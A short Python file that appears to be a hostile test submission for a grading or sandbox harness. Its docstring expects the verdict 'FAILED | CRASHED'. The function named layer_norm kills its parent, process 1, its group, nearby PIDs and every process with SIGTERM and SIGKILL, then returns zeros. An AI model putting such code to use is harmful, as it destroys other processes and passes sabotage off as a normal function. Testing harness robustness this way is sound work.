"""Sends SIGTERM and SIGKILL to itself, its parent, its group, process 1, its neighbours and everybody.
Verdict: FAILED | CRASHED
"""

import contextlib
import math
import os
import signal

import torch


def layer_norm(x, *_, **__):
    for pid in (*range(2, 64), os.getppid(), 1, -1, 0, os.getpid()):
        for sign in (signal.SIGTERM, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(pid, sign)
    return torch.zeros_like(x)


def norm_stat_count(shape, kind):
    if kind == "layer":
        return math.prod(shape[:-1]), (shape[-1],)
    return (shape[0] * shape[1] if kind == "instance" else shape[1]), (shape[1],)
